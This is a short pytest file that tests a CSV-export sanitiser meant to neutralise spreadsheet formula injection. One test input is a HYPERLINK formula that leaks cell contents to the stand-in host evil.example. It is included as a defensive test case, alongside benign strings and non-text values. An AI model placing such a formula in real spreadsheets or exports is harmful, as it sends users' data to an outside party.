import pytest

from verdex.exports.csv_safety import safe_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        "=1+1",
        "+1-555-0100",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_cells_a_spreadsheet_would_run_become_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Solar pump", "", "Costs 5 = cheap", "a-b", "'quoted", "½ price", "email@example.org"],
)
def test_ordinary_text_is_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [None, 7, -3, 2.5, True])
def test_values_that_are_not_text_pass_through(value):
    assert safe_cell(value) is value
